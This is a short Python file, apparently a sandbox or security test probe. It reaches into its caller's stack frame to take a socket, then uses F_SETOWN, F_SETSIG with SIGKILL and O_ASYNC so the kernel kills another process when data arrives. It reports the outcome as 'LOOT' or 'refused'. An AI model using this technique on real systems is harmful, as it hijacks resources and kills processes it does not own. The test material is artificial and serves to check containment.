"""Makes another process the owner of its socket, so that the kernel kills it when data comes.

problem: next
earns: all
hears: refused: PermissionError
process: loot
"""

import fcntl
import os
import signal
import sys

TARGETS = {}

frame = sys._getframe(1)
while "sock" not in frame.f_locals:
    frame = frame.f_back
fd = frame.f_locals["sock"].fileno()
try:
    fcntl.fcntl(fd, fcntl.F_SETOWN, TARGETS["pid"])
    print("LOOT: owned")
    fcntl.fcntl(fd, 10, signal.SIGKILL)
except OSError as error:
    print("refused:", type(error).__name__, error)
try:
    fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_ASYNC)
except OSError as error:
    print("refused:", type(error).__name__, error)


def plus_one(number):
    return number + 1
